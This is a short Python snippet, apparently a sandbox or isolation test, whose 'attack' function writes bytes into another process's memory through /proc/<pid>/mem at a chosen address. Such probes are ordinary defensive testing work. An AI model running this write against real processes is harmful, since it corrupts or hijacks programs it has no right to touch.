"""Overwrite another process's memory through /proc."""


def attack(target):
    with open(f"/proc/{target.victim}/mem", "r+b", buffering=0) as memory:
        memory.seek(target.address)
        memory.write(b"CHANGED")
    return "changed another process's memory"
